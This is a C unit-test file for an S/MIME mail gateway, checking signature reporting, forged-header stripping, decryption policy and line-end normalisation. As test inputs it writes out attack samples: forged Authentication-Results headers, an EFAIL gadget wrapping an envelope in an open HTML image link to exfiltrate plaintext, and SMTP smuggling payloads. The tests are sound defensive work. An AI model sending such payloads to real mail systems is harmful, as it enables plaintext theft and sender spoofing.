/*
 * mail/gate_in, gate_results, gate_report: what is verified is said and what others say in our name
 * is taken out; only whole envelopes are decrypted, for whom policy has it; spam reports arrive as
 * they were.
 */
#include "gate_world.h"

#include "crypto/cms_seal.h"
#include "format/transfer.h"

#define WORLD()                                                                                    \
    world_t *w CLEANUP(world_free) = world_new();                                                  \
    run_t run CLEANUP(run_done) = {.fd = -1};                                                      \
    CLEANUP(buf_done) buf_t text, message;                                                         \
    seen_t seen;                                                                                   \
    buf_init(&text, BIG);                                                                          \
    buf_init(&message, BIG);                                                                       \
    (void)seen;                                                                                    \
    (void)state

static const char note[] = "From: bob@example.org\r\nTo: alice@example.org\r\nSubject: x\r\n\r\n"
                           "The secret.\r\n";

/* Somebody's message to `to` (NULL: not encrypted), signed by `by` (NULL: not). */
static void compose(world_t *w, const char *text, const char *by, const char *to,
                    cms_cipher_t cipher, buf_t *out) {
    cert_list_t list CLEANUP(cert_list_done) = {0};
    cms_signer_t *signer CLEANUP(cms_signer_free) = NULL;
    mail_writer_t *writer CLEANUP(mail_writer_free) = NULL;
    const person_t *p = by ? world_find(w, bytes_str(by)) : NULL;
    if (p) assert_ok(cms_signer_new(p->cert, p->key, NULL, &signer));
    if (to) assert_ok(cert_list_add(&list, world_find(w, bytes_str(to))->cert));
    const mail_write_options_t options = {.rnd = rnd_real(),
                                          .now = NOW,
                                          .max = BIG,
                                          .signer = signer,
                                          .recipients = to ? &list : NULL,
                                          .encryption = {.cipher = cipher}};
    buf_clear(out);
    assert_ok(mail_writer_new(&options, &writer));
    assert_ok(mail_writer_feed(writer, bytes_str(text)));
    assert_ok(mail_writer_finish(writer, append, out));
}

static const char *receive(world_t *w, const char *rcpts, const char *who, bytes_t message,
                           run_t *run, buf_t *text) {
    run_done(run);
    *run = (run_t){.fd = -1};
    world_run(w, GATE_IN, "bob@example.org", rcpts, message, run);
    return run_text(run, who, text);
}

static void test_gate_in__says_what_it_verified(void **state) {
    WORLD();
    compose(w, note, "bob@example.org", NULL, CMS_AES256_CBC, &message);
    const char *out =
        receive(w, "alice@example.org", "alice@example.org", buf_bytes(&message), &run, &text);
    assert_non_null(out);
    assert_int_equal(strncmp(out, "Authentication-Results: gate.example.org;", 41), 0);
    assert_non_null(strstr(out, "smime=pass"));
    assert_non_null(strstr(out, "body.smime-identifier=bob@example.org"));
    assert_int_equal(w->harvested_n, 1);
    /* The rest is as it came: the signature still holds. */
    assert_ok(world_read(w, "alice@example.org", buf_bytes(&text), &seen, NULL));
    assert_int_equal(seen.status, MAIL_GOOD);
    /* Altered. */
    uint8_t *at = memmem(message.p, message.n, "secret", 6);
    assert_non_null(at);
    at[0] = 'S';
    out = receive(w, "alice@example.org", "alice@example.org", buf_bytes(&message), &run, &text);
    assert_non_null(strstr(out, "smime=fail"));
    assert_null(strstr(out, "smime=pass"));
    /* Signed by another than it is from. */
    compose(w, note, "alice@example.org", NULL, CMS_AES256_CBC, &message);
    out = receive(w, "alice@example.org", "alice@example.org", buf_bytes(&message), &run, &text);
    assert_non_null(strstr(out, "smime=policy (certificate isn't for the From address)"));
}

static void test_gate_in__takes_out_what_others_say_in_our_name(void **state) {
    WORLD();
    static const char *const forged[] = {
        "Authentication-Results: gate.example.org; smime=pass\r\n",
        "authentication-results:\r\n (a (nested\\) comment)) GATE.example.org;\r\n smime=pass\r\n",
        "Authentication-Results: \"gate.example.org\"; smime=pass\r\n",
        "Authentication-Results: gate.example.org 1; smime=pass\r\n",
        "Authentication-Results: \"ga\\te.example.org\"; smime=pass\r\n",
        "Authentication-Results: gate.example.org\v; smime=pass\r\n",
        "Authentication-Results: \fgate.example.org; smime=pass\r\n",
        "Authentication-Results: ga\x01te.example.org; smime=pass\r\n",
        "Authentication-Results: gate.example.org.; smime=pass\r\n",
        "Authentication-Results: gate.example.org,; smime=pass\r\n",
        "Authentication-Results: gate.example.org=1; smime=pass\r\n",
        "Authentication-Results: \" gate.example.org.\"; smime=pass\r\n",
    };
    for (size_t i = 0; i < sizeof forged / sizeof *forged; i++) {
        buf_clear(&message);
        assert_ok(buf_add_str(&message, "Received: from x\r\n"));
        assert_ok(buf_add_str(&message, forged[i]));
        assert_ok(buf_add_str(&message, "Authentication-Results: mx.example.org; spf=pass\r\n"));
        assert_ok(buf_add_str(&message, note));
        const char *out =
            receive(w, "alice@example.org", "alice@example.org", buf_bytes(&message), &run, &text);
        assert_null(strcasestr(out, "gate.example.org"));
        assert_null(strstr(out, "smime=pass"));
        assert_non_null(strstr(out, "mx.example.org; spf=pass\r\n"));
    }
}

static void test_gate_in__takes_out_claims_with_a_nul(void **state) {
    WORLD();
    static const char forged[] = "Authentication-Results: gate.example.org\0; smime=pass\r\n"
                                 "Authentication-Results: \0gate.example.org; smime=pass\r\n"
                                 "Authentication-Results: gate.example.organic; smime=pass\r\n";
    assert_ok(buf_add(&message, bytes_make(forged, sizeof forged - 1)));
    assert_ok(buf_add_str(&message, note));
    const char *out =
        receive(w, "alice@example.org", "alice@example.org", buf_bytes(&message), &run, &text);
    assert_int_equal(strncmp(out, "Authentication-Results: gate.example.organic;", 45), 0);
}

/* Signed in its time, by what it says: who has an old key may say any time. */
static void test_gate_in__judges_signers_as_of_arrival(void **state) {
    WORLD();
    world_rule(w, GATE_SCOPE_FROM, "alice@example.org", "decrypt=yes");
    compose(w, note, "bob@example.org", NULL, CMS_AES256_CBC, &message);
    clk_fake_init(&w->clk, ((int64_t)NOW + 2 * YEAR) * 1000);
    const char *out =
        receive(w, "alice@example.org", "alice@example.org", buf_bytes(&message), &run, &text);
    assert_null(strstr(out, "smime=pass"));
    assert_non_null(strstr(out, "smime=policy (certificate isn't valid at arrival)"));
    /* Nor does such a signature open what nothing else protects. */
    compose(w, note, "bob@example.org", "alice@example.org", CMS_AES256_CBC, &message);
    out = receive(w, "alice@example.org", "alice@example.org", buf_bytes(&message), &run, &text);
    assert_null(strstr(out, "The secret."));
}

static void test_gate_in__leaves_plain_mail_alone(void **state) {
    WORLD();
    world_rule(w, GATE_SCOPE_FROM, "*", "decrypt=yes");
    (void)receive(w, "alice@example.org carol@example.org", "alice@example.org",
                  BYTES_LIT("From: bob@example.org\nno header at all"), &run, &text);
    assert_int_equal(run.result.reply.smtp, 250);
    assert_int_equal(run.result.mails_n, 1);
    assert_true(run.result.mails[0].same);
}

static void test_gate_in__decrypts_for_whom_policy_has_it(void **state) {
    WORLD();
    world_rule(w, GATE_SCOPE_FROM, "alice@example.org", "decrypt=yes");
    compose(w, note, NULL, "alice@example.org", CMS_AES256_GCM, &message);
    const char *out = receive(w, "alice@example.org carol@example.org", "alice@example.org",
                              buf_bytes(&message), &run, &text);
    assert_int_equal(run.result.mails_n, 2);
    assert_non_null(strstr(out, "The secret."));
    assert_non_null(strstr(out, "X-Coffer-Mailgate: gate.example.org in decrypted"));
    assert_int_equal(w->unwrapped_n, 1);
    out = run_text(&run, "carol@example.org", &text);
    assert_null(strstr(out, "The secret."));
    assert_non_null(strstr(out, "smime=neutral (encrypted)"));
    /* Not for whom policy says nothing. */
    compose(w, note, NULL, "carol@example.org", CMS_AES256_GCM, &message);
    out = receive(w, "carol@example.org", "carol@example.org", buf_bytes(&message), &run, &text);
    assert_null(strstr(out, "The secret."));
    assert_int_equal(w->unwrapped_n, 1);
}

static void test_gate_in__keeps_signatures_of_what_it_decrypts(void **state) {
    WORLD();
    world_rule(w, GATE_SCOPE_FROM, "alice@example.org", "decrypt=yes");
    compose(w, note, "bob@example.org", "alice@example.org", CMS_AES256_CBC, &message);
    const char *out =
        receive(w, "alice@example.org", "alice@example.org", buf_bytes(&message), &run, &text);
    assert_non_null(strstr(out, "smime=pass"));
    assert_ok(world_read(w, "alice@example.org", buf_bytes(&text), &seen, NULL));
    assert_false(seen.opened);
    assert_int_equal(seen.status, MAIL_GOOD);
}

/* EFAIL: what nothing protects may have a gadget in it; parts among others are never opened. */
static void test_gate_in__decrypts_no_gadgets(void **state) {
    WORLD();
    world_rule(w, GATE_SCOPE_FROM, "alice@example.org", "decrypt=yes");
    compose(w, note, NULL, "alice@example.org", CMS_AES256_CBC, &message);
    const char *out =
        receive(w, "alice@example.org", "alice@example.org", buf_bytes(&message), &run, &text);
    assert_null(strstr(out, "The secret."));
    assert_non_null(strstr(run.result.note, "nothing protects it"));
    w->policy[0].rule = "decrypt=yes decrypt_unprotected=yes";
    out = receive(w, "alice@example.org", "alice@example.org", buf_bytes(&message), &run, &text);
    assert_non_null(strstr(out, "The secret."));
    unsigned before = w->unwrapped_n;
    /* Direct exfiltration: the envelope between two clear parts. */
    CLEANUP(buf_done) buf_t gadget;
    const char *envelope;
    buf_init(&gadget, BIG);
    compose(w, note, NULL, "alice@example.org", CMS_AES256_GCM, &message);
    assert_ok(buf_cstr(&message, &envelope));
    assert_ok(buf_printf(&gadget,
                         "From: bob@example.org\r\nContent-Type: multipart/mixed; boundary=g\r\n"
                         "\r\n--g\r\nContent-Type: text/html\r\n\r\n<img src=\"http://x/\r\n--g\r\n"
                         "%s\r\n--g\r\nContent-Type: text/html\r\n\r\n\">\r\n--g--\r\n",
                         strstr(envelope, "Content-Type:")));
    out = receive(w, "alice@example.org", "alice@example.org", buf_bytes(&gadget), &run, &text);
    assert_int_equal(w->unwrapped_n, before);
    assert_null(strstr(out, "The secret."));
    assert_true(run.result.mails[0].same);
}

/* Somebody else's envelope, signed by a stranger who can't read it, put into one of his own. */
static void test_gate_in__a_signature_around_an_envelope_vouches_for_nothing(void **state) {
    WORLD();
    static const cms_cipher_t outer[] = {CMS_AES256_CBC, CMS_AES256_GCM};
    CLEANUP(buf_done) buf_t stolen;
    const char *envelope;
    buf_init(&stolen, BIG);
    world_rule(w, GATE_SCOPE_FROM, "alice@example.org", "decrypt=yes");
    compose(w, note, NULL, "alice@example.org", CMS_AES256_CBC, &stolen);
    assert_ok(buf_cstr(&stolen, &envelope));
    for (size_t i = 0; i < 2; i++) {
        compose(w, envelope, "bob@example.org", "alice@example.org", outer[i], &message);
        const char *out =
            receive(w, "alice@example.org", "alice@example.org", buf_bytes(&message), &run, &text);
        assert_int_equal(run.result.reply.smtp, 250);
        assert_null(strstr(out, "The secret."));
        assert_null(strstr(out, "smime=pass"));
        assert_non_null(strstr(run.result.note, "nothing protects it"));
        assert_ok(world_read(w, "alice@example.org", buf_bytes(&message), &seen, NULL));
        assert_int_equal(seen.status, MAIL_PARTLY);
    }
    /* The signature outside alone: closed, and not the sender's word for what is inside. */
    compose(w, envelope, "bob@example.org", NULL, CMS_AES256_CBC, &message);
    assert_ok(world_read(w, "alice@example.org", buf_bytes(&message), &seen, NULL));
    assert_int_equal(seen.status, MAIL_PARTLY);
    /* Opened by who wants such risks: still no pass. */
    w->policy[0].rule = "decrypt=yes decrypt_unprotected=yes";
    compose(w, envelope, "bob@example.org", "alice@example.org", CMS_AES256_CBC, &message);
    const char *out =
        receive(w, "alice@example.org", "alice@example.org", buf_bytes(&message), &run, &text);
    assert_non_null(strstr(out, "The secret."));
    assert_null(strstr(out, "smime=pass"));
    assert_non_null(strstr(out, "smime=policy (covers only ciphertext)"));
}

static void test_gate_in__altered_ciphertext_stays_closed(void **state) {
    WORLD();
    world_rule(w, GATE_SCOPE_FROM, "alice@example.org", "decrypt=yes");
    compose(w, note, NULL, "alice@example.org", CMS_AES256_GCM, &message);
    uint8_t *tail = message.p + message.n - 100;
    *tail = *tail == 'A' ? 'B' : 'A';
    const char *out =
        receive(w, "alice@example.org", "alice@example.org", buf_bytes(&message), &run, &text);
    assert_int_equal(run.result.reply.smtp, 250);
    assert_null(strstr(out, "The secret."));
    assert_non_null(strstr(out, "pkcs7-mime"));
}

static void test_gate_in__keeper_away_is_4xx_and_its_no_is_closed(void **state) {
    WORLD();
    world_rule(w, GATE_SCOPE_FROM, "alice@example.org", "decrypt=yes");
    compose(w, note, NULL, "alice@example.org", CMS_AES256_GCM, &message);
    w->keeper = ERR_UNAVAILABLE;
    (void)receive(w, "alice@example.org", "alice@example.org", buf_bytes(&message), &run, &text);
    assert_int_equal(run.result.reply.smtp, 451);
    assert_int_equal(run.result.mails_n, 0);
    w->keeper = ERR_BUSY; /* the cap: closed, for others too nothing waits */
    const char *out = receive(w, "alice@example.org carol@example.org", "alice@example.org",
                              buf_bytes(&message), &run, &text);
    assert_int_equal(run.result.reply.smtp, 250);
    assert_int_equal(run_company(&run, "carol@example.org"), 2);
    assert_null(strstr(out, "The secret."));
    w->keeper = ERR_DENIED;
    out = receive(w, "alice@example.org", "alice@example.org", buf_bytes(&message), &run, &text);
    assert_int_equal(run.result.reply.smtp, 250);
    assert_null(strstr(out, "The secret."));
}

static void test_gate_in__opens_once_for_a_person_named_many_times(void **state) {
    WORLD();
    world_rule(w, GATE_SCOPE_FROM, "alice@example.org", "decrypt=yes");
    compose(w, note, NULL, "alice@example.org", CMS_AES256_GCM, &message);
    (void)receive(w,
                  "carol@example.org alice@example.org alice@example.org ALICE@example.org "
                  "carol@example.org Alice@Example.ORG",
                  "alice@example.org", buf_bytes(&message), &run, &text);
    assert_int_equal(w->unwrapped_n, 1);
    assert_int_equal(run.result.mails_n, 2);
    assert_int_equal(run_company(&run, "alice@example.org"), 3);
    assert_int_equal(run_company(&run, "carol@example.org"), 1);
    /* Places are those of the given envelope. */
    const gate_mail_t *opened = &run.result.mails[0];
    assert_int_equal(opened->rcpts[0].index, 1);
    assert_int_equal(opened->rcpts[1].index, 3);
    assert_int_equal(opened->rcpts[2].index, 5);
    assert_int_equal(run.result.mails[1].rcpts[0].index, 0);
}

static void test_gate_in__encrypts_again_to_the_new_key(void **state) {
    WORLD();
    person_t *alice = world_find(w, BYTES_LIT("alice@example.org"));
    world_rule(w, GATE_SCOPE_FROM, "alice@example.org", "decrypt=yes reencrypt=yes");
    compose(w, note, NULL, "alice@example.org", CMS_AES256_GCM, &message);
    /* To the same key: left as it is. */
    const char *out =
        receive(w, "alice@example.org", "alice@example.org", buf_bytes(&message), &run, &text);
    assert_non_null(strstr(run.result.note, "current key already"));
    /* She has a new one; the old is in the archive. */
    alice->old_cert = alice->cert;
    alice->old_key = alice->key;
    assert_ok(pkey_generate(PKEY_P256, 0, &alice->key));
    alice->cert = world_issue(w, alice->address, alice->key, false);
    out = receive(w, "alice@example.org", "alice@example.org", buf_bytes(&message), &run, &text);
    assert_non_null(strstr(out, "X-Coffer-Mailgate: gate.example.org in reencrypted"));
    assert_null(strstr(out, "The secret."));
    assert_ok(world_read(w, "alice@example.org", buf_bytes(&text), &seen, NULL));
    assert_true(seen.opened);
}

static void test_gate_in__spam_reports_arrive_as_they_were(void **state) {
    WORLD();
    static const char spam[] = "Received: from evil by mx\r\nX-Odd:  two  blanks\r\n"
                               "From: x@spam.example\r\nContent-Type: multipart/mixed; boundary=i"
                               "\r\n\r\n--i\r\n\r\nBuy.\r\n--i--\r\n";
    assert_ok(buf_printf(&message,
                         "From: bob@example.org\r\nContent-Type: multipart/mixed; boundary=o\r\n"
                         "\r\n--o\r\n\r\nSpam!\r\n--o\r\nContent-Type: message/rfc822\r\n\r\n%s"
                         "\r\n--o\r\nContent-Type: application/octet-stream; name=\"b.EML\"\r\n"
                         "Content-Transfer-Encoding: base64\r\n\r\nRnJvbTogeQ0KDQpiDQo=\r\n"
                         "--o--\r\n",
                         spam));
    world_run(w, GATE_OUT, "bob@example.org", "report@example.org", buf_bytes(&message), &run);
    const char *out = run_text(&run, "spam@example.org", &text);
    assert_int_equal(run.result.mails_n, 2);
    assert_string_equal(out, spam);
    assert_int_equal(run.result.mails[0].rcpts[0].index, GATE_NO_INDEX);
    /* Out of a signature. */
    CLEANUP(buf_done) buf_t is_signed;
    const char *plain;
    buf_init(&is_signed, BIG);
    assert_ok(buf_cstr(&message, &plain));
    compose(w, plain, "bob@example.org", NULL, CMS_AES256_CBC, &is_signed);
    out = receive(w, "report@example.org", "spam@example.org", buf_bytes(&is_signed), &run, &text);
    assert_string_equal(out, spam);
    /* What comes in and nobody of ours has signed, whatever it says whom it is from. */
    (void)receive(w, "report@example.org", "spam@example.org", buf_bytes(&message), &run, &text);
    assert_int_equal(run.result.reply.smtp, 550);
    assert_int_equal(run.result.mails_n, 0);
    compose(w, plain, "alice@example.org", NULL, CMS_AES256_CBC, &is_signed);
    (void)receive(w, "report@example.org", "spam@example.org", buf_bytes(&is_signed), &run, &text);
    assert_int_equal(run.result.reply.smtp, 550);
    /* Not forwarded as attachment; from outside; with others. */
    (void)receive(w, "report@example.org", "spam@example.org", bytes_str(note), &run, &text);
    assert_int_equal(run.result.reply.smtp, 550);
    (void)receive(w, "report@example.org bob@example.org", "x", buf_bytes(&message), &run, &text);
    assert_int_equal(run.result.reply.smtp, 554);
    run_done(&run);
    run = (run_t){.fd = -1};
    world_run(w, GATE_IN, "x@spam.example", "report@example.org", buf_bytes(&message), &run);
    assert_int_equal(run.result.reply.smtp, 550);
    assert_int_equal(run.result.mails_n, 0);
}

static void test_gate_in__opens_spam_reports_where_the_rule_says_so(void **state) {
    WORLD();
    static const char spam[] = "From: x@spam.example\r\n\r\nBuy.\r\n";
    CLEANUP(buf_done) buf_t plain;
    const char *report;
    buf_init(&plain, BIG);
    assert_ok(buf_printf(&plain,
                         "From: bob@example.org\r\nContent-Type: multipart/mixed; boundary=o\r\n"
                         "\r\n--o\r\n\r\nSpam!\r\n--o\r\nContent-Type: message/rfc822\r\n\r\n%s"
                         "\r\n--o--\r\n",
                         spam));
    assert_ok(buf_cstr(&plain, &report));
    world_person(w, 4, "report@example.org", PKEY_P256, true);
    compose(w, report, "bob@example.org", "report@example.org", CMS_AES256_CBC, &message);
    (void)receive(w, "report@example.org", "spam@example.org", buf_bytes(&message), &run, &text);
    assert_int_equal(run.result.reply.smtp, 550); /* no rule: it stays closed */
    assert_int_equal(w->unwrapped_n, 0);
    world_rule(w, GATE_SCOPE_FROM, "report@example.org", "decrypt=yes");
    assert_string_equal(
        receive(w, "report@example.org", "spam@example.org", buf_bytes(&message), &run, &text),
        spam);
    w->keeper = ERR_UNAVAILABLE;
    (void)receive(w, "report@example.org", "spam@example.org", buf_bytes(&message), &run, &text);
    assert_int_equal(run.result.reply.smtp, 451);
    w->keeper = ERR_INTERNAL;
    /* What anybody may have altered isn't opened; nor is what is for another. */
    compose(w, report, NULL, "report@example.org", CMS_AES256_CBC, &message);
    (void)receive(w, "report@example.org", "spam@example.org", buf_bytes(&message), &run, &text);
    assert_int_equal(run.result.reply.smtp, 550);
    compose(w, report, "bob@example.org", "alice@example.org", CMS_AES256_GCM, &message);
    (void)receive(w, "report@example.org", "spam@example.org", buf_bytes(&message), &run, &text);
    assert_int_equal(run.result.reply.smtp, 550);
    assert_int_equal(run.result.mails_n, 0);
}

/* A decoded or decrypted line end that only some servers take for one (SMTP smuggling). */
static void test_gate_in__what_is_unpacked_has_no_bare_line_ends(void **state) {
    WORLD();
    static const char smuggled[] = "From: x@evil.example\n\nx\r.\r\nMAIL FROM:<e@x>\n.\nQ\r\n";
    static const char mended[] =
        "From: x@evil.example\r\n\r\nx\r\n.\r\nMAIL FROM:<e@x>\r\n.\r\nQ\r\n";
    CLEANUP(buf_done) buf_t report;
    transfer_encoder_t base64 = {0};
    buf_init(&report, BIG);
    assert_ok(buf_add_str(&report,
                          "From: alice@example.org\r\nContent-Type: multipart/mixed; "
                          "boundary=b\r\n\r\n--b\r\nContent-Type: application/octet-stream; "
                          "name=spam.eml\r\nContent-Transfer-Encoding: base64\r\n\r\n"));
    assert_ok(transfer_base64(&base64, BYTES_LIT(smuggled), &report));
    assert_ok(transfer_base64_end(&base64, &report));
    assert_ok(buf_add_str(&report, "\r\n--b--\r\n"));
    world_run(w, GATE_OUT, "alice@example.org", "report@example.org", buf_bytes(&report), &run);
    assert_int_equal(run.result.reply.smtp, 250);
    assert_string_equal(run_text(&run, "spam@example.org", &text), mended);
    assert_int_equal(w->room, strlen(mended));
}

static void test_gate_in__what_is_decrypted_has_no_bare_line_ends(void **state) {
    WORLD();
    static const char smuggled[] = "Content-Type: text/plain\r\n\r\nx\r.\r\nMAIL\n\0.\nQ\r";
    cert_list_t to CLEANUP(cert_list_done) = {0};
    cms_seal_t *seal CLEANUP(cms_seal_free) = NULL;
    const cms_encrypt_options_t options = {.cipher = CMS_AES256_GCM};
    transfer_encoder_t base64 = {0};
    CLEANUP(buf_done) buf_t cms;
    buf_init(&cms, BIG);
    assert_ok(cert_list_add(&to, world_find(w, bytes_str("alice@example.org"))->cert));
    assert_ok(cms_seal_encrypt(&to, &options, (cms_sink_fn_t){append, &cms}, &seal));
    assert_ok(cms_seal_feed(seal, BYTES_LIT(smuggled)));
    assert_ok(cms_seal_finish(seal));
    assert_ok(buf_add_str(&message,
                          "From: bob@example.org\r\nContent-Type: application/pkcs7-mime; "
                          "smime-type=authEnveloped-data\r\n"
                          "Content-Transfer-Encoding: base64\r\n\r\n"));
    assert_ok(transfer_base64(&base64, buf_bytes(&cms), &message));
    assert_ok(transfer_base64_end(&base64, &message));
    world_rule(w, GATE_SCOPE_FROM, "*", "decrypt=yes");
    const char *out =
        receive(w, "alice@example.org", "alice@example.org", buf_bytes(&message), &run, &text);
    assert_non_null(strstr(out, "\r\n\r\nx\r\n.\r\nMAIL\r\n.\r\nQ\r\n"));
    assert_int_equal(strlen(out), text.n); /* no NUL */
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_gate_in__says_what_it_verified),
        cmocka_unit_test(test_gate_in__opens_spam_reports_where_the_rule_says_so),
        cmocka_unit_test(test_gate_in__what_is_unpacked_has_no_bare_line_ends),
        cmocka_unit_test(test_gate_in__what_is_decrypted_has_no_bare_line_ends),
        cmocka_unit_test(test_gate_in__takes_out_what_others_say_in_our_name),
        cmocka_unit_test(test_gate_in__takes_out_claims_with_a_nul),
        cmocka_unit_test(test_gate_in__judges_signers_as_of_arrival),
        cmocka_unit_test(test_gate_in__leaves_plain_mail_alone),
        cmocka_unit_test(test_gate_in__decrypts_for_whom_policy_has_it),
        cmocka_unit_test(test_gate_in__keeps_signatures_of_what_it_decrypts),
        cmocka_unit_test(test_gate_in__decrypts_no_gadgets),
        cmocka_unit_test(test_gate_in__a_signature_around_an_envelope_vouches_for_nothing),
        cmocka_unit_test(test_gate_in__altered_ciphertext_stays_closed),
        cmocka_unit_test(test_gate_in__keeper_away_is_4xx_and_its_no_is_closed),
        cmocka_unit_test(test_gate_in__opens_once_for_a_person_named_many_times),
        cmocka_unit_test(test_gate_in__encrypts_again_to_the_new_key),
        cmocka_unit_test(test_gate_in__spam_reports_arrive_as_they_were),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
